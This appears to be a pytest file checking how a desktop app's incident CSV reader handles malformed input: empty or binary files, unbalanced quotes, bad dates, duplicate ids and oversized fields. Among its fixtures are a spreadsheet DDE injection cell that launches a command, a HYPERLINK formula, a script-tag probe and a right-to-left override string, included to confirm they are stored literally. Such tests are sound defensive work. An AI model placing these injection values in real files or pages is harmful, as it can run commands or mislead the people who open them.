"""One test per file in tests/data/bad/ (plus two generated ones): a clear error naming the
file, or an exact partial import whose rows add up."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest

from desktop_app.core.model import FileImport, IncidentFileError, ReadOptions
from desktop_app.core.reading.reader import read_incident_file


def read(data_dir: Path, name: str) -> FileImport:
    result = read_incident_file(data_dir / "bad" / name)
    assert result.rows == result.imported + result.duplicates + len(result.rejected)
    assert len(result.incidents) == result.imported
    return result


def reasons(result: FileImport) -> list[str]:
    return [str(r.reason) for r in result.rejected]


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("empty.csv", "the file is empty"),
        ("binary.csv", "cannot read it as CSV text: it is a PNG image, not a CSV file"),
        ("nul_bytes.csv", "it contains NUL bytes, so it is binary data, not CSV text"),
        ("wrong_encoding_claim.csv", "it is marked as UTF-8 but is not valid UTF-8 text"),
    ],
)
def test_unreadable_files_name_the_file(data_dir: Path, name: str, message: str) -> None:
    path = data_dir / "bad" / name
    with pytest.raises(IncidentFileError) as caught:
        read_incident_file(path)
    assert str(caught.value).startswith(f"{path}: ")
    assert message in str(caught.value)


def test_header_only(data_dir: Path) -> None:
    result = read(data_dir, "header_only.csv")
    assert (result.rows, result.imported) == (0, 0)


def test_unbalanced_quotes(data_dir: Path) -> None:
    result = read(data_dir, "unbalanced_quotes.csv")
    assert (result.rows, result.imported) == (2, 1)
    assert reasons(result) == [
        'line 3: a quote (") opened in this row is never closed, so everything up to line 4 '
        "was read as one row; fix the quote and import again"
    ]


def test_ragged_rows(data_dir: Path) -> None:
    result = read(data_dir, "ragged_rows.csv")
    assert list(result.incidents["incident_id"]) == ["A-1", "A-2"]
    assert [r.line for r in result.rejected] == [4, 5]
    assert result.rejected[0].values == {
        "id": "A-3",
        "service": "web",
        "started_at": "",
        "resolved_at": "",
    }


def test_end_before_start(data_dir: Path) -> None:
    result = read(data_dir, "end_before_start.csv")
    assert list(result.incidents["incident_id"]) == ["A-2"]
    assert reasons(result) == [
        "line 2: resolved 09:00 is before started 10:00 (columns 'resolved_at' and 'started_at')",
        "line 4: resolved 2020-03-01 01:00 is before started 2020-03-02 23:00 "
        "(columns 'resolved_at' and 'started_at')",
    ]


def test_dates_in_1970_and_2100_are_implausible(data_dir: Path) -> None:
    result = read(data_dir, "dates_1970_2100.csv")
    assert list(result.incidents["incident_id"]) == ["A-5"]
    tail = "is implausible (before 1990 or after 2099)"
    assert reasons(result) == [
        f"line 2: the date '1970-01-01T00:00:00Z' in column 'started_at' {tail}",
        f"line 3: the date '2100-01-01T00:00:00Z' in column 'started_at' {tail}",
        f"line 4: the date '2100-06-01T00:00:00Z' in column 'resolved_at' {tail}",
        f"line 5: the date '0' in column 'started_at' {tail}",
    ]


def test_mixed_offsets_in_one_column(data_dir: Path) -> None:
    result = read(data_dir, "mixed_offsets.csv")
    start, end = (
        pd.Timestamp("2020-03-02 00:00", tz="UTC"),
        pd.Timestamp("2020-03-02 01:00", tz="UTC"),
    )
    assert result.incidents["started_at"].tolist() == [start] * 3
    assert result.incidents["resolved_at"].tolist() == [end] * 3


def test_naive_cells_of_a_mixed_column_follow_the_time_zone(data_dir: Path) -> None:
    result = read_incident_file(
        data_dir / "bad" / "mixed_offsets.csv", ReadOptions(tz="Asia/Seoul")
    )
    # A-3 ends at 01:00 Seoul = 2020-03-01 16:00 UTC, before its start at 00:00 UTC.
    assert [r.line for r in result.rejected] == [4]


def test_duplicate_ids_with_conflicting_data(data_dir: Path) -> None:
    """A-1 is reused by web and db: two incidents, said in a finding (issue 11)."""
    result = read(data_dir, "duplicate_ids.csv")
    assert (result.rows, result.imported, result.duplicates) == (4, 3, 0)
    rows = result.incidents.set_index(["incident_id", "service"])
    assert rows.loc[("A-1", "db"), "title"] == "second"
    assert rows.loc[("A-1", "web"), "title"] == "first"
    assert [f.kind for f in result.findings if f.kind.startswith("id_")] == ["id_reused"]
    assert reasons(result) == ["line 5: cannot read 'never' in column 'started_at' as a date"]


def test_formula_like_cells_are_imported_literally(data_dir: Path) -> None:
    row = read(data_dir, "formula_cells.csv").incidents.iloc[0]
    assert row["incident_id"] == '=HYPERLINK("http://x.example/?q="&A1;"click")'
    assert row["service"] == "+cmd|' /C calc'!A0"
    assert (row["title"], row["cause"]) == ("@SUM(1+1)", "-2+3")


def test_markup_is_imported_literally(data_dir: Path) -> None:
    row = read(data_dir, "markup.csv").incidents.iloc[0]
    assert row["service"] == "<b>web</b>"
    assert row["title"] == "<script>alert(1)</script> & more"
    assert row["cause"] == "Tom & Jerry <i>"


def test_emoji_and_right_to_left_text(data_dir: Path) -> None:
    frame = read(data_dir, "emoji_rtl.csv").incidents
    assert list(frame["service"]) == ["웹 🚀", "خدمة"]
    assert frame["title"].iloc[1] == "انقطاع الخدمة \u202eevil\u202c"


def test_cr_only_line_endings(data_dir: Path) -> None:
    result = read(data_dir, "cr_only.csv")
    assert list(result.incidents["source_line"]) == [2, 4]
    assert result.incidents["title"].iloc[0] == "two\rlines"
    assert [r.line for r in result.rejected] == [5]


def test_a_5_mb_single_field(write_file) -> None:
    path = write_file("huge_field.csv", "id,started_at\nA-1," + "9" * 5_000_000 + "\n")
    result = read_incident_file(path)
    assert (result.rows, result.imported) == (1, 0)
    assert str(result.rejected[0].reason).startswith("line 2: cannot read '999")
    assert len(str(result.rejected[0].reason)) < 200  # the cell is quoted cut, never megabytes


def test_thousands_of_columns(write_file) -> None:
    headers = [f"c{i}" for i in range(5000)] + ["started_at"]
    cells = ["x"] * 5000 + ["2020-03-02 08:00"]
    path = write_file("wide.csv", ",".join(headers) + "\n" + ",".join(cells) + "\n")
    result = read_incident_file(path)
    assert (result.rows, result.imported) == (1, 1)
